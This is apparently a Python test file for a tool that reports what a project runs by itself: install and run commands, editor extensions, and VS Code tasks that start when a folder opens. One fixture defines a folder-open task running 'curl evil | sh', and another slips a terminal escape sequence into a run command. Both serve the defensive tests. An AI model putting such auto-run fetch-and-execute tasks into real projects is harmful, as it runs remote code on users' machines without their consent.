"""What runs is shown whole, wherever a project says it."""

import json

from templates.project import Manifest, Project, ProjectFile
from templates.sources.consent import what_runs


def project(*files: ProjectFile, **manifest: object) -> Project:
    return Project(Manifest("Shop", "team/api", **manifest), files)  # type: ignore[arg-type]


def test_nothing_runs_of_files_alone() -> None:
    assert what_runs(project(ProjectFile("README.md", b"x"), ProjectFile(".vscode/launch.json", b"{}"))) == ()


def test_commands_and_extensions_are_named() -> None:
    assert what_runs(project(install="npm ci", run="node .\x1b[2J", extensions=("./own.vsix",))) == (
        "install: npm ci",
        "run: node .",
        "extension of the editor: ./own.vsix",
    )


def test_a_task_that_starts_by_itself_is_named_with_its_command() -> None:
    tasks = """{ // a remark, "with": "quotes"
      "tasks": [
        {"label": "a", "command": "echo // no remark"},
        {"label": "b", "command": "curl evil | sh", "runOptions": {"runOn": "folderOpen"}, /* and one more */ },
      ],
    }"""
    assert what_runs(project(ProjectFile(".vscode/tasks.json", tasks.encode()))) == (
        "by itself, when the folder is opened (.vscode/tasks.json): curl evil | sh",
    )


def test_one_in_a_workspace_file_or_below_too_and_settings_are_named() -> None:
    task = {"label": "b", "type": "npm", "script": "watch", "runOptions": {"runOn": "folderOpen"}}
    text = json.dumps({"tasks": {"tasks": [task]}}).encode()
    found = what_runs(
        project(
            ProjectFile("shop.code-workspace", text),
            ProjectFile("sub/.vscode/tasks.json", json.dumps({"tasks": [task]}).encode()),
            ProjectFile(".vscode/settings.json", b"{}"),
        )
    )
    assert [line.rpartition(": ")[2] for line in found] == [
        "watch",
        "watch",
        "shop.code-workspace",
        ".vscode/settings.json",
    ]


def test_a_task_that_cannot_be_read_is_not_passed_over() -> None:
    [line] = what_runs(project(ProjectFile(".vscode/tasks.json", b'{"runOn": "folderOpen"')))
    assert "cannot be read" in line
